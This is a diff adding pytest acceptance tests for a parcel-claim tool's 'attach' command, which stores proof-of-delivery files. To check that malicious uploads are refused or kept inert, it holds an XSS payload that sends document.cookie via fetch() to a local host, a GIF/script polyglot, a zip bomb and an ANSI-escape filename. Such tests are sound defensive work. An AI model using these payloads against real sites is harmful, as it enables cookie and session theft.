@@ -1,0 +1,522 @@
+"""`recours attach` and `recours.attach`: proofs that a person has, by real commands on real databases."""
+
+import io
+import json
+import os
+import subprocess
+import sys
+import zipfile
+from collections.abc import Callable
+from concurrent.futures import ThreadPoolExecutor
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from time import monotonic, sleep
+from typing import Any
+
+import pytest
+from PIL import Image
+
+import recours
+from recours.sandbox import Scenario
+from recours.sandbox.documents import proof_pdf, signature_png
+from tests.acceptance.person import Person
+from tests.acceptance.simulation import Service
+from tests.processes.forks import ROOT
+from tests.rows import row
+
+NUMBER = "24681357"
+SOON = "try again in a minute"
+
+
+def ago(days: int) -> datetime:
+    return datetime.now(UTC).replace(hour=9, minute=31, second=0, microsecond=0) - timedelta(days=days)
+
+
+def proof(number: str = NUMBER, signatory: str = "DUPONT") -> bytes:
+    return proof_pdf("Mondial Relay", number, signatory, ago(5))
+
+
+@pytest.fixture
+def file(tmp_path: Path) -> Callable[..., str]:
+    """`file(content, name)`: a file of that content; its path."""
+
+    def made(content: bytes, name: str = "proof.pdf") -> str:
+        path = tmp_path / "from the portal" / name
+        path.parent.mkdir(exist_ok=True)
+        path.write_bytes(content)
+        return str(path)
+
+    return made
+
+
+@pytest.fixture
+def claim(service: Service) -> Callable[..., str]:
+    """`claim(**columns)`: a failed claim of a carrier that gives no proofs; its reference."""
+
+    def add(**columns: Any) -> str:
+        given: dict[str, Any] = {"carrier": "Mondial Relay", "number": NUMBER, "failed_at": ago(3)} | columns
+        return f"CLM-{service.add(**given):04}"
+
+    return add
+
+
+def facts(service: Service, reference: str) -> dict[str, Any]:
+    names = (
+        "pod_fetch_status",
+        "pod_url",
+        "pod_delivery_person",
+        "pod_stage",
+        "pod_retry_count",
+        "pod_lease_token",
+    )
+    query = f"SELECT {', '.join(names)} FROM claims WHERE claim_reference = ?"
+    return dict(zip(names, service.sql(query, reference)[0], strict=True))
+
+
+def count(service: Service, table: str) -> int:
+    return int(service.sql(f"SELECT count(*) FROM {table}")[0][0])
+
+
+def test_an_attached_proof_counts_like_one_that_was_fetched(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    reference = claim()
+    printed = person.does("attach", reference, file(proof()))
+    assert "It shows: signed by DUPONT on " in printed
+    assert "; the number is on it." in printed
+    assert "The evidence proves the delivery in a dispute about a lost parcel." in printed
+    now = facts(service, reference)
+    stored = Path(now["pod_url"])
+    assert stored.read_bytes() == proof()
+    assert stored.is_relative_to(service.folder / "data" / "pods")
+    assert now["pod_delivery_person"] == "DUPONT"
+    assert (now["pod_fetch_status"], now["pod_stage"], now["pod_retry_count"]) == ("success", None, 0)
+    assert now["pod_lease_token"] is None
+    ((source, who, kind),) = service.sql('SELECT source, "by", kind FROM recours_evidence')
+    assert (source, kind) == ("by hand", "letter")
+    assert who
+    assert service.sql('SELECT what, "by" FROM recours_changes') == [("attached", who)]
+    assert [json.loads(entry)["what"] for (entry,) in service.sql("SELECT entry FROM recours_custody")] == [
+        "attached"
+    ]
+    assert service.sql("SELECT event, audience, told FROM recours_events") == [
+        ("pod_retrieved", "client", None)
+    ]
+    assert service.sql("SELECT path FROM recours_documents") == [(str(stored),)]
+    assert person.types("verify").returncode == 0
+    service.clock.advance(datetime.now(UTC) - service.clock.now())
+    assert service.run_hourly(3, both=True)[-1].stats.total == 0, "nobody asks for it any more"
+    found = person.json("why", reference)
+    assert found["support"] == "proves"
+    assert [piece["by"] for piece in found["evidence"]] == [who]
+    assert f"by hand, {who}" in person.does("why", reference)
+    (exported,) = json.loads(person.does("export", "--what", "evidence", "--json"))
+    assert (exported["claim"], exported["by"], exported["support"]) == (reference, who, "proves")
+    assert exported["shows"].startswith("signed by DUPONT on ")
+    assert json.loads(person.does("export", "--what", "evidence", "--json", "--since", "1h")) == [exported]
+    assert len(person.does("export", "--what", "evidence", "--csv").splitlines()) == 2
+    # A rate of success is that of the carriers, who have nothing to do with it.
+    assert person.json("status")["success"]["all"] == {
+        "failed": 0,
+        "left": 0,
+        "success": 0,
+        "success_rate": None,
+    }
+
+
+def test_what_a_person_says_of_the_delivery_is_recorded(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    reference = claim()
+    photo = io.BytesIO()
+    Image.effect_noise((300, 200), 90).save(photo, "JPEG")
+    day = ago(6).date().isoformat()
+    done = person.json(
+        "attach",
+        reference,
+        file(photo.getvalue(), "door.jpg"),
+        "--kind",
+        "photo",
+        "--signed-by",
+        "Anne",
+        "--at",
+        f"{day}T08:15",
+    )
+    assert (done["kind"], done["signatory"], done["is_pod"]) == ("photo", "Anne", True)
+    at = datetime.fromisoformat(done["delivered_at"])
+    assert f"{at.astimezone(service.settings.policy.zone):%Y-%m-%dT%H:%M}" == f"{day}T08:15"
+    assert "without readable text" in (shown := person.does("why", reference))
+    assert "entered: Anne, " in shown
+    assert "tracking says" not in shown
+
+
+def test_a_further_file_is_the_proof_only_if_it_goes_before_the_one_that_is_there(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    reference = claim(carrier="Chronopost", number="XY001234567FR")
+    steps = (
+        # what is attached, and whether it is the claim's proof from then on
+        ("--kind=photo", signature_png("door"), True),
+        ("--kind=signature", signature_png("ink"), True),
+        ("--kind=photo", signature_png("wall"), False),
+        ("--kind=letter", proof("XY001234567FR"), True),
+        ("--kind=letter", proof("XY001234567FR", "DURAND"), True),  # the latest of two that are signed
+        ("--kind=signature", signature_png("other"), False),
+    )
+    pod_url = None
+    for place, (kind, content, is_first) in enumerate(steps):
+        with row(place, kind):
+            suffix = "pdf" if content.startswith(b"%PDF") else "png"
+            done = person.json("attach", reference, file(content, f"{place}.{suffix}"), kind)
+            assert done["is_pod"] is is_first
+            pod_url = done["path"] if is_first else pod_url
+            assert done["pod_url"] == facts(service, reference)["pod_url"] == pod_url
+    assert count(service, "recours_evidence") == len(steps)
+    assert "pod_url stays " in person.does(
+        "attach", reference, file(signature_png("last"), "x.png"), "--kind=photo"
+    )
+
+
+def test_the_carrier_s_own_proof_goes_before_one_by_hand(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    number = "XY001234568FR"
+    reference = claim(carrier="Chronopost", number=number)
+    service.box.parcels.clear()
+    service.add(Scenario.DELIVERED, number="XY009999999FR")
+    service.sql("UPDATE claims SET tracking_number = ? WHERE claim_reference = ?", "XY009999999FR", reference)
+    service.clock.advance(datetime.now(UTC) - service.clock.now())
+    service.run_hourly(2)
+    own = facts(service, reference)["pod_url"]
+    assert own
+    done = person.json("attach", reference, file(proof("XY009999999FR", "MARTIN")))
+    assert (done["is_pod"], done["pod_url"]) == (False, own)
+    assert facts(service, reference)["pod_delivery_person"] != "MARTIN"
+
+
+def _zip(name: str = "a.txt") -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr(name, b"\x00" * 50_000_000)
+    return made.getvalue()
+
+
+SCRIPT = b"<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
+PAGE = b"<html><body><h1>Proof of delivery</h1><p>Tracking number: 24681357</p><p>Signed by: DUPONT</p>%s</body></html>"
+
+
+def test_files_that_prove_nothing_are_refused_and_leave_nothing_behind(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str], tmp_path: Path
+) -> None:
+    reference = claim()
+    blank = io.BytesIO()
+    Image.new("RGB", (400, 300), "white").save(blank, "PNG")
+    large = tmp_path / "large.pdf"
+    with large.open("wb") as made:
+        made.write(b"%PDF-1.4\n")
+        made.truncate(100_000_000)
+    pipe, link, locked = tmp_path / "pipe", tmp_path / "link.pdf", tmp_path / "locked.pdf"
+    os.mkfifo(pipe)
+    link.symlink_to(file(proof()))
+    locked.write_bytes(proof())
+    locked.chmod(0)
+    files: dict[str, tuple[str, str]] = {
+        "a zip bomb": (file(_zip(), "bomb.zip"), "it is neither HTML, PDF,"),
+        "a zip bomb that is called a PDF": (file(_zip(), "bomb.pdf"), "it is neither HTML, PDF,"),
+        "100 MB": (str(large), "it is larger than 20 MB"),
+        "empty": (file(b"", "empty.pdf"), "it has only 0 bytes"),
+        "damaged": (file(b"%PDF-1.4\n" + b"\x00" * 500, "damaged.pdf"), "cannot be attached"),
+        "cut off": (file(signature_png("x")[:400], "cut.png"), "the image is cut off"),
+        "a program": (file(b"\x7fELF" + b"\x01" * 500, "a.pdf"), "it is neither HTML, PDF,"),
+        "one colour": (file(blank.getvalue(), "blank.png"), "as a proof it is refused"),
+        "an image with a script behind it": (
+            file(signature_png("x") + SCRIPT * 50, "x.png"),
+            "the image is cut off",
+        ),
+        "a login page": (
+            file(
+                b"<!doctype html><html><body>Connexion<form><input type=password></form></body></html>"
+                + b" " * 64,
+                "l.html",
+            ),
+            "as a proof it is refused",
+        ),
+        "another parcel": (
+            file(proof("13572468"), "o.pdf"),
+            "another parcel",
+        ),
+        "a symbolic link": (str(link), "it is a symbolic link"),
+        "a pipe": (str(pipe), "it is no regular file"),
+        "a folder": (str(tmp_path), "cannot be attached"),
+        "a device": ("/dev/zero", "it is no regular file"),
+        "nowhere": (str(tmp_path / "nowhere.pdf"), "No such file"),
+        "a name with a control sign": (file(b"", "a\x1b[31m.pdf"), "a\\x1b[31m.pdf cannot be attached"),
+    }
+    if os.geteuid() != 0:
+        files["unreadable"] = (str(locked), "Permission denied")
+    for what, (path, reason) in files.items():
+        with row(what):
+            done = person.types("attach", reference, path)
+            assert done.returncode == 2, done.stdout
+            assert done.stderr.count("\n") == 1
+            assert reason in done.stderr
+    assert facts(service, reference)["pod_fetch_status"] == "failed"
+    assert facts(service, reference)["pod_lease_token"] is None
+    assert count(service, "recours_evidence") == count(service, "recours_attempts") == 0
+    assert [path for path in (service.folder / "data" / "pods").rglob("*") if path.is_file()] == []
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "media_type"),
+    [
+        ("page.html", PAGE % SCRIPT, "text/html"),
+        ("both.pdf", proof() + PAGE % SCRIPT, "application/pdf"),
+        ("both.gif", None, "image/gif"),
+        ("archive.png", signature_png("x") + _zip()[:200], "image/png"),
+    ],
+)
+def test_what_may_be_two_things_is_kept_as_the_one_that_it_begins_as(
+    person: Person,
+    claim: Callable[..., str],
+    file: Callable[..., str],
+    name: str,
+    content: bytes | None,
+    media_type: str,
+) -> None:
+    """The page serves it as that alone: a web page in a frame that runs no scripts, all others as what they are."""
+    if content is None:
+        made = io.BytesIO()
+        Image.effect_noise((200, 100), 90).convert("P").save(
+            made, "GIF", comment=b"*/=1;alert(document.cookie)//"
+        )
+        content = made.getvalue()
+    done = person.json("attach", claim(), file(content, name))
+    assert done["media_type"] == media_type
+    assert Path(done["path"]).read_bytes() == content
+    assert Path(done["path"]).suffix == f".{name.rpartition('.')[2]}"
+
+
+def test_what_cannot_be_is_refused_with_what_to_do(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    reference, path = claim(), file(proof())
+    unnumbered = claim(number="x")
+    service.sql("UPDATE claims SET tracking_number = NULL WHERE claim_reference = ?", unnumbered)
+    tomorrow = (datetime.now(UTC) + timedelta(days=2)).date().isoformat()
+    cases: list[tuple[tuple[str, ...], str]] = [
+        (("CLM-9999", path), "There is no claim 'CLM-9999'."),
+        ((unnumbered, path), "has no tracking number"),
+        ((reference, path, "--at", tomorrow), "that is in the future"),
+        ((reference, path, "--at", f"{tomorrow}T10:00"), "that is in the future"),
+        ((reference, path, "--at", "1999-12-31"), "that is before 2000"),
+        ((reference, path, "--at", ago(800).date().isoformat()), "more than a year later"),
+        ((reference, path, "--at", "yesterday"), "is no date"),
+        ((reference, path, "--at", "0001-01-01T00:00+23:59"), "that is before 2000"),
+        ((reference, path, "--signed-by", " \t "), "is empty"),
+        ((reference, path, "--kind", "record"), "'record' is not one of"),
+    ]
+    for arguments, reason in cases:
+        with row(*arguments):
+            done = person.types("attach", *arguments)
+            assert done.returncode == 2, done.stdout
+            assert reason in done.stderr
+    assert count(service, "recours_evidence") == 0
+    person.does("attach", reference, path)
+    again = person.types("attach", reference, path)
+    assert again.returncode == 2
+    assert "has this very file already (by hand)" in again.stderr
+    assert count(service, "recours_evidence") == 1
+
+
+def test_a_claim_that_a_run_is_fetching_is_refused_and_one_that_nobody_enrolled_is_not(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    reference, path = claim(), file(proof())
+    leased = datetime.now(UTC) + timedelta(minutes=9)
+    service.sql(
+        "UPDATE claims SET pod_lease_token = 'other', pod_lease_until = ? WHERE claim_reference = ?",
+        f"{leased:%Y-%m-%d %H:%M:%S}",
+        reference,
+    )
+    done = person.types("attach", reference, path)
+    assert (done.returncode, SOON in done.stderr) == (2, True)
+    assert facts(service, reference)["pod_lease_token"] == "other"
+    assert list((service.folder / "data" / "pods").rglob("*.pdf")) == []
+    for status in (None, "manual", "pending", "not_available"):
+        with row(status):
+            other = claim(pod_fetch_status=status)
+            person.does("attach", other, path)
+            assert facts(service, other)["pod_fetch_status"] == "success"
+    events = service.sql("SELECT count(*) FROM recours_events")
+    assert events == [(0,)], "only of a claim that had failed somebody was told, or is"
+
+
+def test_a_run_that_waits_for_the_carrier_keeps_its_claim_and_its_answer(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    number = "XY001234567FR"
+    reference = f"CLM-{service.add(Scenario.SLOW, number=number, failed_at=ago(3)):04}"
+    service.clock.advance(datetime.now(UTC) - service.clock.now())
+    service.box.slow_seconds = 6
+    with ThreadPoolExecutor(1) as beside:
+        run = beside.submit(service.run)
+        until = monotonic() + 20
+        while not facts(service, reference)["pod_lease_token"] and monotonic() < until:
+            sleep(0.05)
+        refused = person.types("attach", reference, file(proof(number, "MARTIN")))
+        assert not run.done(), "the carrier has answered too soon"
+        assert (refused.returncode, SOON in refused.stderr) == (2, True)
+        assert run.result().stats.success == 1
+    own = facts(service, reference)["pod_url"]
+    done = person.json("attach", reference, file(proof(number, "MARTIN")))
+    assert (done["is_pod"], facts(service, reference)["pod_url"]) == (False, own)
+
+
+@pytest.fixture
+def in_process(person: Person, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The service's own application: recours works in this process, with the person's settings."""
+    for name, value in person.environment.items():
+        monkeypatch.setenv(name, value)
+
+
+@pytest.mark.usefixtures("in_process")
+def test_of_several_people_at_the_same_time_each_file_is_recorded_once(
+    person: Person,
+    service: Service,
+    claim: Callable[..., str],
+    file: Callable[..., str],
+) -> None:
+    reference = claim()
+    files = [
+        file(proof(signatory=f"{name} DUPONT"), f"{name}.pdf") for name in ("Anne", "Bea", "Carl", "Dora")
+    ]
+
+    def attach(path: str) -> bool:
+        for _ in range(100):
+            try:
+                return recours.attach(reference, path, by="Anna").is_pod
+            except recours.TryAgainSoonError:
+                sleep(0.05)
+        return False
+
+    with ThreadPoolExecutor(len(files)) as people:
+        assert any(people.map(attach, files))
+    kept = service.sql("SELECT path FROM recours_evidence")
+    assert len(kept) == len(files)
+    assert (facts(service, reference)["pod_url"],) in kept
+    assert count(service, "recours_events") == 1
+    assert count(service, "recours_custody") == len(files)
+    assert person.types("verify").returncode == 0
+
+
+KILLED = """
+import os, signal, sys
+from pathlib import Path
+import recours
+from recours.database.claims import ClaimRepository
+from recours.documents.store import DocumentStore
+
+def dying(owner, name, when):
+    work = getattr(owner, name)
+    def watched(*given, **named):
+        if when == "before":
+            os.kill(os.getpid(), signal.SIGKILL)
+        work(*given, **named)
+        os.kill(os.getpid(), signal.SIGKILL)
+    setattr(owner, name, watched)
+
+name, when = sys.argv[3:]
+dying({"store": DocumentStore, "secure": DocumentStore}.get(name, ClaimRepository), name, when)
+recours.attach(sys.argv[1], Path(sys.argv[2]), by="Anna")
+"""
+
+
+@pytest.mark.parametrize(
+    ("name", "when"),
+    [
+        ("lease_named", "after"),
+        ("store", "after"),
+        ("secure", "after"),
+        ("record", "before"),
+        ("record", "after"),
+    ],
+)
+def test_a_kill_loses_nothing_and_doubles_nothing(
+    person: Person,
+    service: Service,
+    claim: Callable[..., str],
+    file: Callable[..., str],
+    name: str,
+    when: str,
+) -> None:
+    reference, path = claim(), file(proof())
+    person.does("status")
+    killed = subprocess.run(
+        [sys.executable, "-c", KILLED, reference, path, name, when],
+        env=person.environment, cwd=ROOT, check=False, capture_output=True,
+    )  # fmt: skip
+    assert killed.returncode == -9, killed.stderr
+    is_recorded = (name, when) == ("record", "after")
+    done = person.types("attach", reference, path)
+    assert (done.returncode, "very file already" in done.stderr) == (2, is_recorded)
+    if not is_recorded:
+        assert SOON in done.stderr, "its lease still holds"
+        service.sql("UPDATE claims SET pod_lease_until = ?", f"{datetime.now(UTC):%Y-%m-%d %H:%M:%S}")
+        person.does("attach", reference, path)
+    assert facts(service, reference)["pod_fetch_status"] == "success"
+    assert [
+        count(service, f"recours_{table}")
+        for table in ("evidence", "attempts", "changes", "custody", "events")
+    ] == [1] * 5
+    assert len(list((service.folder / "data" / "pods").rglob("*.pdf"))) == 1
+    assert person.types("verify").returncode == 0
+
+
+def test_a_run_takes_up_what_was_stored_when_attach_died(
+    person: Person, service: Service, claim: Callable[..., str], file: Callable[..., str]
+) -> None:
+    reference, path = claim(carrier="Chronopost", number="XY001234567FR"), file(proof("XY001234567FR"))
+    subprocess.run(
+        [sys.executable, "-c", KILLED, reference, path, "store", "after"],
+        env=person.environment,
+        cwd=ROOT,
+        check=False,
+    )
+    service.sql("UPDATE claims SET pod_lease_until = ?", f"{datetime.now(UTC):%Y-%m-%d %H:%M:%S}")
+    service.clock.advance(datetime.now(UTC) + timedelta(minutes=1) - service.clock.now())
+    service.run_hourly(2)
+    assert facts(service, reference)["pod_fetch_status"] == "success"
+    assert service.box.calls_for("XY001234567FR") == []
+    assert service.sql("SELECT source FROM recours_evidence") == [("by hand",)]
+
+
+@pytest.mark.usefixtures("in_process")
+def test_the_service_s_own_application_attaches_too(
+    service: Service,
+    claim: Callable[..., str],
+    file: Callable[..., str],
+) -> None:
+    reference, path = claim(), file(proof())
+    with pytest.raises(recours.CorrectReferenceError):
+        recours.attach("CLM-9", path, by="Anna")
+    with pytest.raises(recours.CorrectFileError, match=r"^Impossible de joindre nowhere\.pdf : "):
+        recours.attach(reference, "nowhere.pdf", by="Anna", language="fr")
+    with pytest.raises(ValueError, match="kind must be one of letter, signature, photo"):
+        recours.attach(reference, path, by="Anna", kind="record")
+    with pytest.raises(ValueError, match="by must name the person"):
+        recours.attach(reference, path, by=" ")
+    done = recours.attach(reference, path, by="Anna", at=ago(5).replace(tzinfo=None), language="fr")
+    assert done.is_pod
+    assert done.pod_path == done.path == facts(service, reference)["pod_url"]
+    assert done.shows.startswith("signé par DUPONT le ")
+    assert done.sentence.startswith(
+        f"{reference} : la preuve de livraison est là, jointe à la main. Ce qu'elle montre : signé"
+    )
+    assert done.sentence.endswith("L'ensemble prouve la livraison dans un litige pour colis perdu.")
+    assert (done.support, service.sql('SELECT "by" FROM recours_changes')) == ("proves", [("Anna",)])
+    with pytest.raises(recours.CorrectFileError, match="has this very file already"):
+        recours.attach(reference, path, by="Anna", language="en")
+    status = recours.claim_status(reference, language="en")
+    assert (status.stage, status.support) == (recours.Standing.FETCHED, "proves")
+    assert (status.shows or "").startswith("signed by DUPONT on ")
+    assert status.verdict == "The evidence proves the delivery in a dispute about a lost parcel."
